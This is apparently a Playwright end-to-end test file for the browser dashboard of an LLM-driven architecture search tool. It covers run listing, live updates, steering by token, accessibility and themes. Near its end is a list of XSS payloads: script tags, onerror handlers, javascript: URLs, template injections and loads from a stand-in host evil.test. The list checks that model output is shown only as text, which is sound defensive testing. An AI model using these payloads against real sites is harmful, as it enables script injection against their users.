/** The live page as a browser shows it: the command, the server and the page together, on runs that real searches made. */
import { readFileSync, rmSync, truncateSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { setTimeout as wait } from "node:timers/promises";
import type { Locator, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
import { RunLock } from "../../src/runs/run-lock.ts";
import type { EventBody, RunEvent } from "../../src/search/events.ts";
import { fold } from "../../src/search/fold.ts";
import { best } from "../../src/search/results.ts";
import type { RunState } from "../../src/search/state.ts";
import { browserNote, chromiumPath, contrast } from "../support/browser.ts";
import {
  collmNas,
  evaluator,
  type EvaluatorProcess,
  events,
  json,
  start,
  startEvaluator,
  temporaryFile,
  temporaryFolder,
  until,
} from "../support/cli.ts";
import {
  type Dashboard,
  Reader,
  seriousFindings,
  sidewaysScroll,
  startDashboard,
} from "../support/live-page.ts";
import {
  afterRounds,
  appendTo,
  renamed,
  rechained,
  searchedRecord,
  stampedAfter,
  talkativeModel,
  writeDamagedRun,
  writeRun,
  writeTornRun,
} from "../support/live-runs.ts";
import { type ModelServer, playRoles, startModelServer } from "../support/model-server.ts";
import { testClock } from "../support/run-events.ts";

/** A folder with a run of every kind, and the page of it. */
let shelf: string;
let shown: Dashboard;
let reader: Reader;
let talked: readonly RunEvent[];
let drawn: readonly RunEvent[];

const hasBrowser = chromiumPath !== null;

beforeAll(async () => {
  if (!hasBrowser) return;
  shelf = join(temporaryFolder(), "runs");
  talked = await searchedRecord({ model: talkativeModel, search: { limits: { flops_m: 150 } } });
  drawn = await searchedRecord({ searcher: "random", search: { limits: { flops_m: 150 }, seed: 1 } });
  const blind = await searchedRecord({ search: { seed: 2, blind: true } });
  writeRun(join(shelf, "talked"), talked);
  writeRun(join(shelf, "drawn"), drawn);
  writeRun(join(shelf, "group/blind"), blind);
  writeRun(join(shelf, "left"), renamed(afterRounds(talked, 2), "left", 3));
  writeDamagedRun(join(shelf, "damaged"), renamed(talked, "damaged", 4), 5);
  writeTornRun(join(shelf, "torn"), renamed(drawn, "torn", 5));
  for (const [name, more] of [
    ["working", []],
    ["waiting", [{ type: "run-paused", round: 2 }]],
  ] satisfies [string, EventBody[]][]) {
    writeRun(join(shelf, name), renamed(afterRounds(talked, 2, more), name, 6));
    await RunLock.take(join(shelf, name), testClock());
  }
  [shown, reader] = await Promise.all([startDashboard(shelf), Reader.open()]);
});

afterEach(async () => {
  if (hasBrowser) expect(await reader.complaints()).toEqual([]);
});

afterAll(async () => {
  await reader?.close();
});

// ----- Where things stand -----

function rows(page: Page): Locator {
  return page.locator("table.runs tbody tr");
}

function rowOf(page: Page, id: string): Locator {
  return rows(page).filter({ has: page.getByRole("link", { name: id, exact: true }) });
}

async function ids(page: Page): Promise<string[]> {
  return await rows(page).locator("th a").allTextContents();
}

function panel(page: Page, name: string): Locator {
  return page.getByRole("region", { name, exact: true });
}

function addressOf(dashboard: Dashboard, id: string, place = ""): string {
  return `${dashboard.origin}/#/run/${encodeURIComponent(id)}${place}`;
}

/** Opens a run and waits until all that there is of it is shown. */
async function visitRun(dashboard: Dashboard, id: string, look: Parameters<Reader["visit"]>[1] = {}) {
  const page = await reader.visit(addressOf(dashboard, id), look);
  await panel(page, "Standing").locator("[data-part=connection]").getByText("is live").waitFor();
  return page;
}

async function eventsShown(page: Page): Promise<number> {
  return Number.parseInt(
    ((await page.locator("[data-part=log-count]").textContent()) ?? "").replaceAll(",", ""),
    10,
  );
}

async function untilShown(page: Page, count: number): Promise<void> {
  await expect.poll(() => eventsShown(page), { timeout: 15_000 }).toBe(count);
}

/** Opens every folded part of the page. */
async function unfold(page: Page): Promise<void> {
  const folded = "main details:not([open]) > summary";
  await page.evaluate(`document.querySelectorAll("${folded}").forEach((summary) => summary.click())`);
  await expect.poll(() => page.locator(folded).count()).toBe(0);
}

describe.skipIf(!hasBrowser)(`the live page in a browser${browserNote}`, () => {
  // ----- The list -----

  test("every run of the folder is listed with its state, and a damaged one with its line", async () => {
    const page = await reader.visit(shown.address);
    await expect.poll(() => rows(page).count(), { timeout: 15_000 }).toBe(8);
    const states = {
      talked: "finished",
      drawn: "finished",
      "group/blind": "finished",
      left: "stopped",
      torn: "stopped",
      damaged: "damaged",
      working: "running",
      waiting: "paused",
    };
    for (const [id, state] of Object.entries(states))
      expect(await rowOf(page, id).locator(".badge").textContent(), id).toContain(state);
    expect(await rowOf(page, "damaged").textContent()).toMatch(/line 5: it holds event 6 instead of event 5/);
    expect(await rowOf(page, "group/blind").locator(".mark").allTextContents()).toEqual(["blind"]);
    expect(await rowOf(page, "talked").textContent()).toMatch(/talkative.*\d %.*100 *of 100/s);
    expect(page.url()).not.toContain("token");
  });

  test("the list is sorted by any column and filtered by words and state", async () => {
    const page = await reader.visit(shown.address);
    await rowOf(page, "talked").waitFor();
    await page.getByRole("button", { name: "Run", exact: true }).click();
    await page.locator("th[aria-sort=ascending]").getByText("Run").waitFor();
    const byName = await ids(page);
    expect(byName).toEqual(byName.toSorted());
    await page.getByRole("button", { name: "Run", exact: true }).click();
    await page.locator("th[aria-sort=descending]").getByText("Run").waitFor();
    expect(await ids(page)).toEqual(byName.toReversed());
    await page.getByRole("button", { name: "Best" }).click();
    await page.locator("th[aria-sort=descending]").getByText("Best").waitFor();
    const bests = (await page.locator("td[data-label=Best]").allTextContents())
      .map(Number.parseFloat)
      .filter((value) => !Number.isNaN(value));
    expect(bests.length).toBeGreaterThan(5);
    expect(bests).toEqual(bests.toSorted((one, other) => other - one));

    await page.getByLabel("Filter runs").fill("random cells");
    await expect.poll(async () => (await ids(page)).toSorted()).toEqual(["drawn", "torn"]);
    await page.getByLabel("State").selectOption("finished");
    await expect.poll(() => ids(page)).toEqual(["drawn"]);
    await page.getByLabel("Filter runs").fill("nothing like this");
    await page.getByRole("button", { name: "Show all runs" }).click();
    await expect.poll(() => rows(page).count()).toBe(8);
  });

  test("a folder without runs says what to type", async () => {
    const page = await reader.visit((await startDashboard(temporaryFolder())).address);
    await page.getByText("There is no run here yet.").waitFor();
    expect(await page.locator("main").textContent()).toContain("collm-nas run --space");
  });

  test("a bench is a row that opens to its runs, and opens by itself for what is sought in it", async () => {
    const folder = temporaryFolder();
    const runs = ["runs/two-cells/collm/seed0", "runs/two-cells/random/seed0"];
    writeRun(join(folder, "deep/bench", runs[0] ?? ""), talked);
    writeRun(join(folder, "deep/bench", runs[1] ?? ""), drawn);
    const combinations = runs.map((run) => ({
      label: run,
      isControl: false,
      space: "two-cells",
      seed: 0,
      folder: run,
      status: "done",
      reason: null,
    }));
    const record = {
      format: 1,
      title: "Side by side",
      combinations,
      references: [],
      command: "bench",
      versions: {},
    };
    writeFileSync(join(folder, "deep/bench/bench.json"), JSON.stringify(record));
    const page = await reader.visit((await startDashboard(folder)).address);
    const bench = page.getByRole("button", { name: "deep/bench" });
    await page.getByText("Side by side · 2 of 2 runs finished").waitFor();
    const links = page.locator("table.runs tbody a");
    expect([await bench.getAttribute("aria-expanded"), await links.count()]).toEqual(["false", 0]);
    await bench.click();
    await expect.poll(() => links.count()).toBe(2);
    expect(await seriousFindings(page)).toEqual([]);
    await bench.click();
    await expect.poll(() => links.count()).toBe(0);
    await page.getByLabel("Filter runs").fill("random");
    await expect.poll(() => links.allTextContents()).toEqual(["two-cells/random/seed0"]);
    await links.first().click();
    await page.getByRole("heading", { level: 1, name: "deep/bench/runs/two-cells/random/seed0" }).waitFor();
  });

  // ----- One run -----

  test("a run opens with everything there is to see of it", async () => {
    const page = await reader.visit(shown.address);
    await page.getByRole("link", { name: "talked", exact: true }).click();
    await page.getByRole("heading", { level: 1, name: "talked" }).waitFor();
    await untilShown(page, talked.length);
    const value = best(fold(talked) as RunState)?.value.toFixed(3);
    expect(await panel(page, "Standing").locator("[data-part=best]").textContent()).toBe(`${value} %`);
    for (const name of ["Best so far", "Cost and value", "Candidates by round", "Choices by round"])
      await panel(page, name).locator("svg").first().waitFor();
    expect(await panel(page, "Strategy").locator("ins").count()).toBeGreaterThan(0);
    expect(await panel(page, "Strategy").locator("del").count()).toBeGreaterThan(0);
    expect(await panel(page, "Replies").locator("li[id^=reply]").count()).toBe(
      Math.min(30, talked.filter(({ type }) => type === "chat-replied").length),
    );
    expect(await panel(page, "Spend").textContent()).toMatch(/Navigator/);
    expect(await panel(page, "Steering").textContent()).toContain("Only a run under way can be steered.");
    // Nothing is in progress any more, nor is the best one so far only.
    expect(await page.locator("main").textContent()).not.toMatch(/in progress|★ best so far|\(in force\)/);
    expect(await panel(page, "Rounds").count()).toBe(1);
  });

  test("a point of the cost figure leads to its candidate, and that to the reply that proposed it", async () => {
    const page = await visitRun(shown, "talked");
    const point = panel(page, "Cost and value").locator("svg a").last();
    const href = (await point.getAttribute("href")) ?? "";
    expect(href).toMatch(/^#\/run\/talked\/round-\d+\/candidate-\d+$/);
    await point.dispatchEvent("click");
    await expect.poll(() => page.url()).toContain(href);
    const [, round, candidate] = /round-(\d+)\/candidate-(\d+)/.exec(href) ?? [];
    const row = page.locator(`#round-${round}-candidate-${candidate}`);
    await expect.poll(() => row.getAttribute("class")).toContain("aimed");
    await row.getByRole("button", { name: /^reply \d+$/ }).click();
    await panel(page, "Replies").getByText('{"architectures"').first().waitFor();
  });

  test("what is written while the page is open appears on it, in the run and in the list", async () => {
    const folder = temporaryFolder();
    const begun = afterRounds(talked, 2);
    writeRun(join(folder, "growing"), begun);
    const dashboard = await startDashboard(folder);
    const page = await visitRun(dashboard, "growing");
    const list = await page.context().newPage();
    await list.goto(dashboard.origin);
    await rowOf(list, "growing").getByText("stopped").waitFor();
    await untilShown(page, begun.length);
    const measured = talked.slice(begun.length).findIndex(({ type }) => type === "architecture-measured");
    const next = talked.slice(begun.length, begun.length + measured + 1);

    const log = panel(page, "Event log");
    const summary = panel(page, "Replies").locator("summary").first();
    await summary.focus();
    appendTo(join(folder, "growing"), next);
    await untilShown(page, begun.length + next.length);
    expect(await log.locator("li code").first().textContent()).toBe("architecture-measured");
    expect(await panel(page, "Rounds").textContent()).toContain("Round 3 was not closed");
    expect(await page.evaluate("document.activeElement.tagName")).toBe("SUMMARY");

    appendTo(join(folder, "growing"), talked.slice(begun.length + next.length));
    await untilShown(page, talked.length);
    await page.locator("main .badge").getByText("finished").first().waitFor();
    await rowOf(list, "growing").getByText("finished").waitFor();
  });

  test("the winner is copied in every form, and its command gives the value that is shown", async () => {
    const folder = temporaryFolder();
    const out = join(folder, "real");
    const { best: found } = await json(
      `run --space analognas-baseline --budget 30 --evaluator ${evaluator.address} --out ${out}`.split(" "),
    );
    const page = await visitRun(await startDashboard(folder), "real", {
      permissions: ["clipboard-read", "clipboard-write"],
    });
    const copied = async (name: string) => {
      await panel(page, "Winner").getByRole("button", { name }).click();
      await page.getByRole("status").getByText("copied").waitFor();
      return await page.evaluate<string>("navigator.clipboard.readText()");
    };
    expect(JSON.parse(await copied("Copy JSON"))).toEqual(found?.architecture);
    expect(await copied("Copy Template string")).toBe(found?.text);
    const command = await copied("Copy `evaluate` command");
    expect(command).toMatch(/^collm-nas evaluate '/);
    const [, text = "", rest = ""] = /^collm-nas evaluate '([^']+)' (.+)$/.exec(command) ?? [];
    const evaluated = await collmNas(["evaluate", text, ...rest.split(" ")]);
    expect(evaluated.code, evaluated.stderr).toBe(0);
    expect(evaluated.stdout).toContain(String(found?.metrics["accuracy"]).slice(0, 5));
  });

  // ----- Several runs -----

  test("runs ticked in the list are compared by the report's own tables and figures", async () => {
    const page = await reader.visit(shown.address);
    await page.getByLabel("Compare talked").check();
    await page.getByLabel("Compare drawn").check();
    await page.getByLabel("Compare left").check();
    await page.getByRole("link", { name: "Compare 3 runs" }).click();
    await page.getByRole("heading", { level: 2, name: "cells" }).waitFor();
    const main = page.locator("main");
    expect(await main.locator("table").count()).toBeGreaterThan(1);
    expect(await main.locator("svg").count()).toBeGreaterThan(3);
    expect(await main.textContent()).toMatch(/One run has not finished/);
    expect(await main.locator("svg a").first().getAttribute("href")).toMatch(/^#\/run\/\w+\/round-/);
    await page.goBack();
    expect(await page.getByLabel("Compare talked").isChecked()).toBe(true);
  });

  // ----- ChatFailure -----

  test("a damaged run says which line is wrong, and a run that is not there says so", async () => {
    const page = await reader.visit(addressOf(shown, "damaged"));
    await page
      .getByText(/line 5: it holds event 6 instead of event 5/)
      .first()
      .waitFor();
    reader.forgive(/404/);
    const other = await reader.visit(addressOf(shown, "no such run"));
    await other.getByText("There is no such run.").first().waitFor();
  });

  test("a record that shrinks or vanishes while it is looked at is told, and one that comes again is shown", async () => {
    const folder = temporaryFolder();
    const run = writeRun(join(folder, "meddled"), talked);
    const journal = join(run, "journal.jsonl");
    const page = await visitRun(await startDashboard(folder), "meddled");
    await untilShown(page, talked.length);
    truncateSync(journal, Math.floor(readFileSync(journal).length / 2));
    await page
      .locator("main")
      .getByText(/shorter|shrank|shrunk|cut/i)
      .first()
      .waitFor();
    writeRun(run, afterRounds(talked, 1));
    await untilShown(page, afterRounds(talked, 1).length);
    reader.forgive(/404/);
    rmSync(run, { recursive: true });
    await page
      .locator("main")
      .getByText(/gone|no longer there|vanished|no such run/i)
      .first()
      .waitFor();
  });

  test("a server that is gone is told, and the page goes on by itself when it is back", async () => {
    reader.forgive(/ERR_CONNECTION_REFUSED|ERR_INCOMPLETE_CHUNKED_ENCODING|ERR_CONNECTION_RESET|ERR_EMPTY/);
    const folder = temporaryFolder();
    const begun = afterRounds(talked, 2);
    writeRun(join(folder, "followed"), begun);
    const first = await startDashboard(folder);
    const page = await visitRun(first, "followed");
    const list = await page.context().newPage();
    await list.goto(first.origin);
    await untilShown(page, begun.length);
    await panel(page, "Cost and value").locator("svg").waitFor();
    first.process.kill("SIGKILL");
    await first.process.ended;
    await panel(page, "Standing").locator("[data-part=connection][data-state=lost]").waitFor();
    await list.getByText("The connection to the server is lost").waitFor();
    appendTo(join(folder, "followed"), talked.slice(begun.length));
    await startDashboard(folder, { port: first.port });
    await untilShown(page, talked.length);
    await panel(page, "Standing").locator("[data-part=connection][data-state=open]").waitFor();
    await rowOf(list, "followed").getByText("finished").waitFor();
  });

  // ----- Text that nobody can trust -----

  test("whatever a model writes is shown as text", async () => {
    const folder = temporaryFolder();
    const all = payloads.join("\n");
    const name = `x<img src=x onerror=window.__pwned=0>`;
    const record = talked.map((event): RunEvent => {
      switch (event.type) {
        case "run-started":
          return {
            ...event,
            run: name,
            models: { navigator: payloads[0] as string, generator: payloads[1] as string },
            search: { ...event.search, task: all },
          };
        case "strategy-set":
          return { ...event, text: `${all}\n${event.round}` };
        case "chat-replied":
          return {
            ...event,
            added: event.added.map((message) => ({ ...message, content: all })),
            reply: {
              ...event.reply,
              model: payloads[2] as string,
              content: all,
              reasoning: all,
              finishReason: payloads[3] as string,
              notes: payloads,
              failures: payloads,
            },
          };
        case "round-proposed":
          return {
            ...event,
            candidates: [
              ...event.candidates,
              ...payloads.map((raw) => ({
                raw,
                verdict: {
                  kind: "unreadable" as const,
                  rejections: [{ code: "unreadable" as const, place: raw, sentence: raw }],
                },
              })),
            ],
          };
        default:
          return event;
      }
    });
    const begun = rechained(afterRounds(record, 3));
    writeRun(join(folder, name), begun);
    const more: EventBody[] = [
      { type: "reply-rejected", role: "generator", round: 3, attempt: 1, reasons: payloads },
      { type: "hint-given", round: 4, text: all },
    ];
    appendTo(join(folder, name), stampedAfter(begun, more));
    writeRun(join(folder, "other"), renamed(drawn, payloads[4] as string));
    const dashboard = await startDashboard(folder);

    const list = await reader.visit(dashboard.address);
    expect(await rowOf(list, name).textContent()).toContain(payloads[0]);
    await list.getByLabel(`Compare ${name}`).check();
    await list.getByLabel("Compare other").check();
    await list.getByRole("link", { name: "Compare 2 runs" }).click();
    await list.locator("main svg").first().waitFor();
    await expectHarmless(list);

    const page = await visitRun(dashboard, name);
    await untilShown(page, begun.length + more.length);
    await panel(page, "Strategy").getByRole("switch").uncheck();
    await unfold(page);
    const parts = ["Strategy", "Replies", "Rounds", "Event log"];
    for (const part of parts) {
      const text = ((await panel(page, part).textContent()) ?? "").replaceAll("\\", "");
      for (const payload of payloads)
        expect(text.includes(payload.replaceAll("\\", "")), `${payload} in ${part}`).toBe(true);
    }
    await expectHarmless(page);
  });

  // ----- Steering -----

  describe("a run under way", () => {
    let slow: EvaluatorProcess;
    let model: ModelServer;
    let folder: string;

    beforeAll(async () => {
      const answer = playRoles();
      slow = await startEvaluator({ slowSeconds: 0.02 });
      model = await startModelServer((request) => async (response) => {
        await wait(150);
        await answer(request)(response, request);
      });
      folder = temporaryFolder();
    });
    afterAll(() => model.close());

    function startRun(name: string) {
      const file = temporaryFile(
        "search.yaml",
        `space: analognas-baseline
budget: 400
candidates: {min: 5, max: 5}
rounds: 40
model: {name: test-model, baseUrl: "${model.baseUrl}", keyVariable: TEST_KEY}
`,
      );
      const out = join(folder, name);
      return start(["run", file, "--evaluator", slow.address, "--out", out, "--json"]);
    }

    test("waits, is told a hint and goes on as the page says, with the token alone", async () => {
      const run = startRun("steered");
      const dashboard = await startDashboard(folder);
      await until("the run has begun", () => events(join(folder, "steered")).length > 3);

      const page = await visitRun(dashboard, "steered");
      const steering = panel(page, "Steering");
      await steering.getByText("Read only").waitFor();
      expect(await steering.getByRole("button").allTextContents()).toEqual(["Use token"]);
      reader.forgive(/403/);
      await steering.getByLabel("Token").fill("wrong");
      await steering.getByRole("button", { name: "Use token" }).click();
      await steering.getByText("That is not the token.").waitFor();
      expect(await steering.getByRole("button", { name: "Pause after this round" }).count()).toBe(0);
      await steering.getByLabel("Token").fill(dashboard.token ?? "");
      await steering.getByRole("button", { name: "Use token" }).click();

      await steering.getByRole("button", { name: "Pause after this round" }).click();
      await page.locator("main .badge").getByText("paused").first().waitFor();
      const asked = model.requests.length;
      const recorded = events(join(folder, "steered"));
      expect(recorded.at(-1)?.type).toBe("run-paused");

      const hint = "Try <b>skip_connect</b> into node 3.";
      await steering.getByLabel("Hint to the Navigator").fill(hint);
      await steering.getByRole("button", { name: "Send hint" }).click();
      await panel(page, "Strategy").getByText(hint).waitFor();
      expect(await steering.getByLabel("Hint to the Navigator").inputValue()).toBe("");
      expect(model.requests.length).toBe(asked);

      await steering.getByRole("button", { name: "Resume" }).click();
      await page.locator("main .badge").getByText("running").first().waitFor();
      await until("the next request", () => model.requests.length > asked);
      const next = model.requests[asked]?.body.messages?.at(-1)?.["content"];
      expect(next).toContain(hint);
      expect(events(join(folder, "steered")).filter(({ type }) => type === "hint-given")).toHaveLength(1);

      await steering.getByRole("button", { name: "Stop" }).click();
      expect(events(join(folder, "steered")).at(-1)?.type).not.toBe("run-ended");
      await steering.getByRole("button", { name: "Press again to stop" }).click();
      const ended = await run.ended;
      expect([ended.code, ended.signal]).toEqual([3, null]);
      await page.locator("main .badge").getByText("stopped").first().waitFor();
      await page
        .locator("[data-part=next]")
        .getByText(/^collm-nas resume .*steered/)
        .waitFor();
    });

    test("is steered at once by whoever opens the printed address, and by nobody where the page is read only", async () => {
      const run = startRun("printed");
      await until("the run has begun", () => events(join(folder, "printed")).length > 3);
      const dashboard = await startDashboard(folder);
      const page = await reader.visit(dashboard.address);
      await page.getByRole("link", { name: "printed", exact: true }).click();
      await panel(page, "Steering").getByRole("button", { name: "Pause after this round" }).waitFor();
      const readOnly = await startDashboard(folder, { flags: ["--read-only"] });
      expect(readOnly.token).toBeNull();
      const other = await visitRun(readOnly, "printed");
      expect(await panel(other, "Steering").getByRole("button", { name: "Pause" }).count()).toBe(0);
      run.interrupt();
      await run.ended;
    });
  });

  // ----- Everybody -----

  const views = ["list", "run", "comparison"] as const;

  async function visitView(
    view: (typeof views)[number],
    look: Parameters<Reader["visit"]>[1],
  ): Promise<Page> {
    if (view === "run") {
      const page = await visitRun(shown, "talked", look);
      await panel(page, "Choices by round").locator("svg").waitFor();
      return page;
    }
    const page = await reader.visit(
      view === "list" ? `${shown.origin}/` : `${shown.origin}/#/compare/talked,drawn`,
      look,
    );
    await page
      .locator(view === "list" ? "table.runs" : "main .box svg:visible, main .narrow svg:visible")
      .first()
      .waitFor();
    return page;
  }

  test.for(views)("the %s fits a narrow screen and a wide one", async (view) => {
    for (const width of [375, 2560]) {
      const page = await visitView(view, { width });
      expect(await sidewaysScroll(page), `${width} px`).toBeLessThanOrEqual(0);
    }
  });

  test.for(views)(
    "the %s has no serious accessibility finding, light or dark, wide or narrow",
    async (view) => {
      for (const look of [
        { theme: "light", width: 1280 },
        { theme: "dark", width: 1280 },
        { theme: "dark", width: 375 },
      ] as const) {
        const page = await visitView(view, look);
        expect(await seriousFindings(page), JSON.stringify(look)).toEqual([]);
      }
    },
  );

  test("it is dark where the reader's system is, and where the reader says so", async () => {
    const page = await visitView("run", { theme: "dark" });
    const colours = async () =>
      await page.evaluate<[string, string]>(
        "[getComputedStyle(document.body).backgroundColor, getComputedStyle(document.querySelector('h1')).color]",
      );
    const [darkPaper, darkInk] = await colours();
    expect(contrast(darkPaper, "#000000")).toBeLessThan(1.6);
    expect(contrast(darkPaper, darkInk)).toBeGreaterThan(7);
    await page.getByRole("button", { name: "Theme" }).click();
    const [lightPaper, lightInk] = await colours();
    expect(contrast(lightPaper, "#ffffff")).toBeLessThan(1.2);
    expect(contrast(lightPaper, lightInk)).toBeGreaterThan(7);
    await page.emulateMedia({ colorScheme: "light" });
    await page.getByRole("button", { name: "Theme" }).click();
    expect(await colours()).toEqual([darkPaper, darkInk]);
  });

  test("everything is reached by the keyboard, and what has the focus is seen", async () => {
    const page = await visitView("list", {});
    const focus = async () =>
      await page.evaluate<{ text: string; isSeen: boolean }>(`(() => {
        const { activeElement } = document;
        const { outlineStyle, outlineWidth, boxShadow } = getComputedStyle(activeElement);
        const { top, bottom, height } = activeElement.getBoundingClientRect();
        return {
          text: (activeElement.getAttribute("aria-label") ?? activeElement.textContent).trim().slice(0, 40),
          isSeen: ((outlineStyle !== "none" && parseFloat(outlineWidth) > 0) || boxShadow !== "none")
            && height > 0 && bottom > 0 && top < innerHeight,
        };
      })()`);
    await page.keyboard.press("Tab");
    expect(await focus()).toEqual({ text: "Skip to the content", isSeen: true });
    await page.keyboard.press("Enter");
    const passed: string[] = [];
    for (let presses = 0; presses < 60 && passed.at(-1) !== "talked"; presses++) {
      await page.keyboard.press("Tab");
      const { text, isSeen } = await focus();
      expect(isSeen, text).toBe(true);
      passed.push(text);
    }
    expect(passed).toContain("Best");
    expect(passed.at(-1)).toBe("talked");
    await page.keyboard.press("Enter");
    await page.getByRole("heading", { level: 1, name: "talked" }).waitFor();
    await expect.poll(async () => (await focus()).text).toBe("talked");
    await page.keyboard.press("Escape");
    await page.locator("table.runs").waitFor();
    await expect.poll(async () => (await focus()).text).toBe("talked");
    expect(page.url()).toMatch(/#\/$/);
  });
});

/** Ways into a page that trusts what it shows. */
const payloads = [
  "<script>window.__pwned=1</script>",
  '<img src=x onerror="window.__pwned=2">',
  '<svg onload="window.__pwned=3"></svg>',
  '<iframe src="javascript:parent.__pwned=4"></iframe>',
  '"><script src=https://evil.test/5.js></script>',
  "'-(window.__pwned=6)-'",
  "javascript:window.__pwned=7",
  "[click me](javascript:window.__pwned=8)",
  "</code></pre></div><img src=https://evil.test/9.png>",
  '<a href="javascript:window.__pwned=10" class="evil">click</a>',
  '<style class="evil">@import "https://evil.test/11.css";</style>',
  "<link rel=stylesheet href=https://evil.test/12.css>",
  "<body onload=window.__pwned=13>",
  '<details class="evil" open ontoggle=window.__pwned=14>x</details>',
  "<math><mtext></mtext><mglyph><style><img src=x onerror=window.__pwned=15></style></mglyph></math>",
  "${window.__pwned=16}",
  "{{constructor.constructor('window.__pwned=17')()}}",
  "<input class=evil autofocus onfocus=window.__pwned=18>",
  '<meta http-equiv=refresh content="0;url=https://evil.test/19">',
  "<form class=evil action=https://evil.test/20><button>send</button></form>",
  '<!--<img src="--><img src=x onerror=window.__pwned=21//">',
  "&lt;img src=x onerror=window.__pwned=22&gt;",
  "\\u003cscript\\u003ewindow.__pwned=23\\u003c/script\\u003e",
  "<?lit$000000000$?><!--?lit$000000000$--><template class=evil></template>",
];

/** Nothing ran, nothing was put into the page, and every link leads to a place of this page. */
async function expectHarmless(page: Page): Promise<void> {
  const found = await page.evaluate<unknown>(`({
    ran: window.__pwned,
    put: document.querySelectorAll(".evil, main img, main iframe, main script, main link, main meta, main form[action], main style, math").length,
    scripts: [...document.scripts].filter(({ src }) => !src.startsWith(location.origin + "/")).length,
    links: [...document.querySelectorAll("a")].map((link) => link.getAttribute("href")).filter((href) => !href.startsWith("#")),
    handlers: [...document.querySelectorAll("*")].filter((element) => [...element.attributes].some(({ name }) => name.startsWith("on"))).length,
  })`);
  expect(found).toEqual({ put: 0, scripts: 0, links: [], handlers: 0 });
}
